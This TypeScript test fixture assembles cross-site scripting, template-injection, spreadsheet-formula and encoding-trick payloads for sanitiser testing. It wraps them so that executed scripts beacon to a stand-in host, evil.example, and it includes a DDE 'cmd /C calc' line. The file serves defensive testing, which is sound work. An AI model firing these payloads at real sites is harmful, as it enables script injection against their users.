import { RICH_TEXT_ATTACKS } from 'shared-contracts/fixtures';
import { rounds } from '../support/rounds.ts';

/** Where a script that runs reports to; nothing answers there. */
export const LISTENER = 'https://evil.example/ran';

/** Every payload tells in each way it knows that it ran. */
const loud = (html: string): string => html.replaceAll(/alert\(1\)/g, `(window.ran=1,alert(1),fetch('${LISTENER}'))`);

/** Where an attack stands in its text; parsers read the same one differently in each. */
const PLACES: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  (html) => `<ul><li>${html}</li></ul>`,
  (html) => `<table><tr><td>${html}`,
  (html) => `<blockquote><a href="https://example.org">${html}</a></blockquote>`,
];

/** Formatted texts that attack, behind words that stay: a text of which nothing is left is refused with its section. */
export const HOSTILE_HTML: readonly string[] = rounds(PLACES.slice(0, 1), PLACES).flatMap((place) =>
  RICH_TEXT_ATTACKS.map(({ html }) => `<p>x</p>${place(loud(html.replaceAll('\0', '')))}`),
);

const RUN = 'window.ran=1';
/** Plain texts that attack whoever writes them into markup, attributes, scripts, styles, addresses or templates. Short ones: most fields are. */
export const HOSTILE_TEXT: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `"><script>${RUN}</script>`,
  `'"onmouseover=${RUN}//`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><svg onload=${RUN}>`,
  `<!--<script>${RUN}//`,
  `]]><svg/onload=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `javascript:${RUN}`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `<svg><animate onbegin=${RUN}>`,
  `<math><mi//xlink:href="data:x,${RUN}">`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `=cmd|' /C calc'!A0`,
  `\u202e${RUN}\u202c<b>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

/** How many payloads there are: each is tried in every text field of every kind. */
export const ROUNDS = Math.max(HOSTILE_HTML.length, HOSTILE_TEXT.length);
